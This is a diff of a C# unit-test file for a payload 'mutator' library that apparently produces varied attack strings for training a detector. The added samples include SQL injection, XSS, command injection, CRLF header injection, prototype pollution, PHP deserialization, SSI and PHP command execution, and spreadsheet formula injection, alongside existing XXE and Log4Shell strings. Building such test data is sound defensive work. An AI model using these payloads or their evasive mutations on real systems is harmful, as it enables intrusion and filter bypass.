@@ -24,6 +24,9 @@ public sealed class MutatorsTests
         (AttackClass.Xxe, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
         (AttackClass.Nosqli, "{\"user\":{\"$ne\":1}}"), (AttackClass.Nosqli, "a[$ne]=1"), (AttackClass.Nosqli, "' || 1==1 //"),
         (AttackClass.Ldapi, "*)(uid=*))(|(objectClass=*"), (AttackClass.Log4shell, "${jndi:ldap://x.test/a}"), (AttackClass.Other, "php://filter/resource=index.php"),
+        (AttackClass.Sqli, "' or 'a'='a"), (AttackClass.Sqli, "-1 union select 1,null,3--"), (AttackClass.Xss, "<img src=x onerror=alert(1)>"), (AttackClass.Rce, "1|dir"), (AttackClass.Rce, "system('id')"),
+        (AttackClass.Other, "/%0d%0aSet-Cookie: a=b"), (AttackClass.Other, "__proto__[x]=1"), (AttackClass.Other, "//shop.test/"), (AttackClass.Other, "O:4:\"User\":1:{}"),
+        (AttackClass.Other, "<!--#exec cmd=\"id\"-->"), (AttackClass.Other, "<?php system('id');?>"), (AttackClass.Other, "=cmd|'/c calc'!A0"),
     ];
 
     [Fact]
@@ -202,10 +205,58 @@ public sealed class MutatorsTests
     [Fact]
     public void Apply_TextWithoutAnchor_GivesNull()
     {
-        foreach (string name in (string[])["sql-identity", "shell-ifs", "js-scheme", "url-address", "lookup-lower", "xml-public"])
+        foreach (string name in (string[])["sql-identity", "shell-ifs", "js-scheme", "url-address", "lookup-lower", "xml-public", "sql-text-condition", "html-handler-tag", "shell-reader", "object-sign", "php-tag"])
         {
             Find(name).Apply("nothing to see", new SeededRandom(1)).ShouldBeNull(name);
         }
+    }
+
+    [Theory]
+    [InlineData("sql-condition", "1 or 3=3", "3")]
+    [InlineData("prototype-path", "__proto__[role]=admin", "role")]
+    [InlineData("html-carrier", "<script>alert(7)</script>", "alert(7)")]
+    [InlineData("template-delimiters", "{{7*7}}", "7*7")]
+    [InlineData("header-break", "x%0d%0aSet-Cookie: a=b", "Set-Cookie: a=b")]
+    public void Apply_ChangeOfShape_KeepsWhatActs(string name, string text, string kept)
+    {
+        for (ulong seed = 0; seed < 40; seed++)
+        {
+            // Some conditions need no number.
+            string? mutated = Find(name).Apply(text, new SeededRandom(seed));
+            bool constant = name == "sql-condition" && mutated is not null && Regex.IsMatch(mutated, "97|0x61|abc|!0|~0|'a'", RegexOptions.None, TimeSpan.FromSeconds(1));
+            (mutated is null || constant || mutated.Contains(kept, StringComparison.Ordinal)).ShouldBeTrue(mutated);
+        }
+    }
+
+    [Fact]
+    public void ForTraining_SameSeed_GivesSameText()
+    {
+        foreach ((AttackClass attackClass, string text) in s_samples)
+        {
+            for (ulong seed = 0; seed < 20; seed++)
+            {
+                Mutators.ForTraining(text, attackClass, new SeededRandom(seed)).ShouldBe(Mutators.ForTraining(text, attackClass, new SeededRandom(seed)));
+            }
+        }
+    }
+
+    [Fact]
+    public void ForTraining_EverySample_ChangesMostlyAndInManyWays()
+    {
+        foreach ((AttackClass attackClass, string text) in s_samples)
+        {
+            string?[] mutated = [.. Enumerable.Range(0, 100).Select(i => Mutators.ForTraining(text, attackClass, new SeededRandom((ulong)i)))];
+
+            mutated.ShouldAllBe(m => m != text);
+            mutated.OfType<string>().Distinct(StringComparer.Ordinal).Count().ShouldBeGreaterThan(50, text);
+        }
+    }
+
+    [Fact]
+    public void ForTraining_EmptyOrLongText_GivesNull()
+    {
+        Mutators.ForTraining("", AttackClass.Sqli, new SeededRandom(1)).ShouldBeNull();
+        Mutators.ForTraining(new string('a', 3_000), AttackClass.Sqli, new SeededRandom(1)).ShouldBeNull();
     }
 
     [Fact]
